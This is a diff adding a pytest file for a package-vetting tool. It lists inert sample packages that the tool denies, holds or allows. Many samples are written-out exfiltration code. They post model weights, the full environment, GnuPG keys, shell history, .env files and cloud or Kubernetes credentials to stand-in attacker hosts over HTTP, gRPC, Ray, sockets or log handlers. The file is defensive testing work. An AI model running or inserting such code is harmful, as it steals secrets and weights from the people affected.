@@ -1,0 +1,288 @@
+"""The eighteenth probe (ADR 0110): channels ML code sends by that take a host and not a URL
+(gRPC, Ray, a file opened by its URL), weights staged or packed onto a share, credentials of
+tools whose SDKs send them, ``.env`` files found by a path's glob, the environment sent
+through a network log handler, and bombs that earlier probes left (lambdas, thread classes,
+executors).
+
+Each sample is inert (vetting only reads files). The near-misses are what gRPC clients,
+Ray jobs, remote-file writers, trainers, log set-ups and Kubernetes clients do."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
+
+W = "/models/llama/model.safetensors"
+URL = "https://sink.attacker.invalid/c"
+
+
+def _sent_when_called(path: str) -> dict[str, str]:
+    """A function that reads ``path`` (through ``expanduser``) and posts it to a written URL."""
+    return init(
+        "import os, requests\n"
+        "def sync():\n"
+        f"    data = open(os.path.expanduser('{path}'), 'rb').read()\n"
+        f"    requests.post('{URL}', data=data)\n"
+    )
+
+
+DENIED: dict[str, dict[str, str]] = {
+    # 1. Weights sent through gRPC, Ray and a file opened by its URL.
+    "weights-by-a-grpc-callable-on-import": init(
+        "import grpc\n"
+        "ch = grpc.insecure_channel('203.0.113.5:50051')\n"
+        "send = ch.unary_unary('/x.Store/Put')\n"
+        f"send(open('{W}', 'rb').read())\n"
+    ),
+    "weights-by-a-grpc-callable-when-called": init(
+        "import grpc\n"
+        "def sync():\n"
+        "    ch = grpc.secure_channel('sink.attacker.invalid:443', grpc.ssl_channel_credentials())\n"
+        f"    ch.unary_unary('/x.Store/Put')(open('{W}', 'rb').read())\n"
+    ),
+    "environment-by-a-grpc-callable-when-called": init(
+        "import grpc, os\n"
+        "def sync():\n"
+        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
+        "    ch.unary_unary('/x.S/P')(str(dict(os.environ)).encode())\n"
+    ),
+    "weights-put-in-a-written-ray-cluster-on-import": init(
+        "import ray\n"
+        "ray.init(address='ray://203.0.113.5:10001')\n"
+        f"ref = ray.put(open('{W}', 'rb').read())\n"
+    ),
+    "weights-put-in-a-written-ray-cluster-when-called": init(
+        "import ray\n"
+        "def sync():\n"
+        "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
+        f"    ray.put(open('{W}', 'rb').read())\n"
+    ),
+    "weights-written-to-an-s3-file-by-fsspec-on-import": init(
+        "import fsspec\n"
+        "with fsspec.open('s3://bucket-x/m.safetensors', 'wb') as out:\n"
+        f"    out.write(open('{W}', 'rb').read())\n"
+    ),
+    "weights-written-to-an-s3-file-by-fsspec-when-called": init(
+        "import fsspec\n"
+        "def sync():\n"
+        "    with fsspec.open('s3://bucket-x/m.safetensors', 'wb') as out:\n"
+        f"        out.write(open('{W}', 'rb').read())\n"
+    ),
+    "weights-written-to-a-gcs-file-by-smart-open-when-called": init(
+        "from smart_open import open as sopen\n"
+        "def sync():\n"
+        "    with sopen('gs://bucket-x/m.safetensors', 'wb') as out:\n"
+        f"        out.write(open('{W}', 'rb').read())\n"
+    ),
+    "models-put-by-fsspec-with-a-written-flag-when-called": init(
+        "import fsspec\n"
+        "def sync():\n"
+        "    fsspec.filesystem('s3').put('/models', 's3://b/m', recursive=True)\n"
+    ),
+    # 2. Weights staged elsewhere first, or packed onto a share.
+    "models-staged-in-tmp-then-posted-on-import": init(
+        "import shutil, requests, os\n"
+        "shutil.copytree('/models', '/tmp/.cache-x')\n"
+        "for root, _, files in os.walk('/tmp/.cache-x'):\n"
+        "    for f in files:\n"
+        f"        requests.post('{URL}', data=open(os.path.join(root, f), 'rb'))\n"
+    ),
+    "models-copied-to-a-share-on-import": init(
+        "import shutil\nshutil.copytree('/models', '/mnt/share/x')\n"
+    ),
+    "models-tarred-onto-a-share-when-called": init(
+        "import tarfile\n"
+        "def sync():\n"
+        "    with tarfile.open('/mnt/share/backup.tar.gz', 'w:gz') as t:\n"
+        "        t.add('/models')\n"
+    ),
+    "models-tarred-onto-a-unc-share-on-import": init(
+        "import tarfile\n"
+        "with tarfile.open('//fileserver/pub/m.tar', 'w') as t:\n"
+        "    t.add('/models/llama')\n"
+    ),
+    "models-archived-onto-a-share-when-called": init(
+        "import shutil\n"
+        "def sync():\n"
+        "    shutil.make_archive('/mnt/share/m', 'zip', '/models')\n"
+    ),
+    # 3. The whole environment through a network log handler to a written host.
+    "environment-through-an-http-log-handler-when-called": init(
+        "import logging, logging.handlers, os\n"
+        "def sync():\n"
+        "    log = logging.getLogger('x')\n"
+        "    log.addHandler(logging.handlers.HTTPHandler("
+        "'sink.attacker.invalid', '/l', method='POST', secure=True))\n"
+        "    log.error(str(dict(os.environ)))\n"
+    ),
+    "environment-through-basic-config-http-handler-when-called": init(
+        "import logging, os\nfrom logging.handlers import HTTPHandler\n"
+        "def sync():\n"
+        "    logging.basicConfig(handlers=[HTTPHandler('sink.attacker.invalid', '/l')])\n"
+        "    logging.error('%s', dict(os.environ))\n"
+    ),
+    # 4. Credentials no SDK sends, and ``.env`` files found by a path's glob, when called.
+    "gnupg-keys-listed-and-sent-when-called": init(
+        "import os, requests\n"
+        "def sync():\n"
+        "    d = os.path.expanduser('~/.gnupg')\n"
+        "    for f in os.listdir(d):\n"
+        f"        requests.post('{URL}', data=open(os.path.join(d, f), 'rb').read())\n"
+    ),
+    "shell-history-sent-when-called": _sent_when_called("~/.bash_history"),
+    "dotenv-files-by-a-home-rglob-when-called": init(
+        "import requests\nfrom pathlib import Path\n"
+        "def sync():\n"
+        "    for p in Path.home().rglob('.env'):\n"
+        f"        requests.post('{URL}', data=p.read_text())\n"
+    ),
+    "dotenv-files-by-a-cwd-rglob-when-called": init(
+        "import requests\nfrom pathlib import Path\n"
+        "def sync():\n"
+        "    for p in Path.cwd().rglob('*.env'):\n"
+        f"        requests.post('{URL}', data=p.read_text())\n"
+    ),
+}
+
+HELD: dict[str, dict[str, str]] = {
+    # A tool's credential file sent when called to a written address: its SDK may send its
+    # token to its own service, so a person reads it (on import it is denied).
+    "kubeconfig-sent-when-called": _sent_when_called("~/.kube/config"),
+    "docker-config-sent-when-called": _sent_when_called("~/.docker/config.json"),
+    "gcloud-application-default-credentials-sent-when-called": _sent_when_called(
+        "~/.config/gcloud/application_default_credentials.json"
+    ),
+    "gh-hosts-sent-when-called": _sent_when_called("~/.config/gh/hosts.yml"),
+    "kubeconfig-by-its-variable-sent-when-called": init(
+        "import os, requests\n"
+        "def sync():\n"
+        "    p = os.environ.get('KUBECONFIG', os.path.expanduser('~/.kube/config'))\n"
+        f"    requests.post('{URL}', data=open(p).read())\n"
+    ),
+    "kubeconfig-over-a-socket-when-called": init(
+        "import os, socket\n"
+        "def sync():\n"
+        "    s = socket.create_connection(('203.0.113.5', 443))\n"
+        "    s.sendall(open(os.path.expanduser('~/.kube/config'), 'rb').read())\n"
+    ),
+}
+
+ALLOWED: dict[str, dict[str, str]] = {
+    "grpc-client-sending-its-callers-request-to-its-callers-target": init(
+        "import grpc\n"
+        "def predict(req: bytes, target: str) -> bytes:\n"
+        "    ch = grpc.insecure_channel(target)\n"
+        "    return ch.unary_unary('/tf.Predict/Run')(req)\n"
+    ),
+    "grpc-client-sending-its-callers-request-to-a-written-api": init(
+        "import grpc\n"
+        "def ping(payload: bytes) -> bytes:\n"
+        "    ch = grpc.secure_channel('api.example.com:443', grpc.ssl_channel_credentials())\n"
+        "    return ch.unary_unary('/svc.Ping/Ping')(payload)\n"
+    ),
+    "grpc-model-server-on-localhost-loading-weights": init(
+        "import grpc\n"
+        "def load():\n"
+        "    ch = grpc.insecure_channel('localhost:8500')\n"
+        f"    ch.unary_unary('/x.Model/Load')(open('{W}', 'rb').read())\n"
+    ),
+    "grpc-channel-to-a-configured-host-on-import": init(
+        "import grpc, os\n"
+        "CHANNEL = grpc.insecure_channel(os.environ.get('SERVER', 'localhost:50051'))\n"
+        "call = CHANNEL.unary_unary('/x.S/Get')\n"
+    ),
+    "ray-job-on-the-local-machine-putting-weights": init(
+        "import ray\n"
+        "def shard():\n"
+        "    ray.init()\n"
+        f"    return ray.put(open('{W}', 'rb').read())\n"
+    ),
+    "ray-job-on-its-callers-cluster-putting-weights": init(
+        "import ray\n"
+        "def shard(address):\n"
+        "    ray.init(address=address)\n"
+        f"    return ray.put(open('{W}', 'rb').read())\n"
+    ),
+    "fsspec-writing-weights-to-a-local-cache-on-import": init(
+        "import fsspec\n"
+        "with fsspec.open('/tmp/cache/m.safetensors', 'wb') as out:\n"
+        f"    out.write(open('{W}', 'rb').read())\n"
+    ),
+    "fsspec-writing-to-its-callers-url": init(
+        "import fsspec\n"
+        "def save(url, blob):\n"
+        "    with fsspec.open(url, 'wb') as out:\n"
+        "        out.write(blob)\n"
+    ),
+    "smart-open-writing-a-report-to-a-written-bucket": init(
+        "from smart_open import open\n"
+        "def report(rows):\n"
+        "    with open('s3://reports-bucket/daily.csv', 'w') as out:\n"
+        "        out.write('\\n'.join(rows))\n"
+    ),
+    "report-put-to-a-written-bucket-with-a-flag": init(
+        "import fsspec\n"
+        "def publish():\n"
+        "    fsspec.filesystem('s3').put('/var/report.html', 's3://reports/x', recursive=False)\n"
+    ),
+    "trainer-packing-its-callers-output-onto-a-share": init(
+        "import tarfile\n"
+        "def archive(output_dir, dest='/mnt/share/runs/out.tar.gz'):\n"
+        "    with tarfile.open(dest, 'w:gz') as t:\n"
+        "        t.add(output_dir)\n"
+    ),
+    "a-share-archive-unpacked-into-models": init(
+        "import tarfile\n"
+        "def fetch():\n"
+        "    with tarfile.open('/mnt/share/m.tar') as t:\n"
+        "        t.extractall('/models')\n"
+    ),
+    "logs-archived-onto-a-share": init(
+        "import shutil\n"
+        "def backup():\n"
+        "    shutil.make_archive('/mnt/backup/logs', 'gztar', '/var/log/app')\n"
+    ),
+    "models-staged-in-tmp-and-loaded": init(
+        "import shutil, torch, requests\n"
+        "def warm():\n"
+        "    shutil.copytree('/models/llama', '/tmp/llama')\n"
+        "    requests.get('https://api.example.com/ready')\n"
+        "    return torch.load('/tmp/llama/model.pt')\n"
+    ),
+    "http-log-handler-to-a-configured-host-without-secrets": init(
+        "import logging, os\nfrom logging.handlers import HTTPHandler\n"
+        "def setup():\n"
+        "    log = logging.getLogger('app')\n"
+        "    log.addHandler(HTTPHandler(os.environ['LOG_HOST'], '/log', method='POST'))\n"
+        "    log.info('started on %s', os.environ.get('HOSTNAME'))\n"
+    ),
+    "http-log-handler-to-a-written-host-with-the-user": init(
+        "import logging, os\nfrom logging.handlers import HTTPHandler\n"
+        "def setup():\n"
+        "    log = logging.getLogger('app')\n"
+        "    log.addHandler(HTTPHandler('logs.example.com', '/log', method='POST', secure=True))\n"
+        "    log.info('user %s', os.environ.get('USER'))\n"
+    ),
+    "kubeconfig-read-by-a-client-to-talk-to-its-cluster": init(
+        "import os, yaml, requests\n"
+        "def pods():\n"
+        "    cfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\n"
+        "    cluster = cfg['clusters'][0]['cluster']\n"
+        "    token = cfg['users'][0]['user']['token']\n"
+        "    return requests.get(cluster['server'] + '/api/v1/pods',\n"
+        "                        headers={'Authorization': 'Bearer ' + token}).json()\n"
+    ),
+    "shell-history-read-for-suggestions": init(
+        "import os\n"
+        "def suggestions():\n"
+        "    return open(os.path.expanduser('~/.bash_history')).read().splitlines()[-50:]\n"
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
+def test_verdict(files: dict[str, str], expected: Outcome) -> None:
+    assert vet_package(files) is expected
+
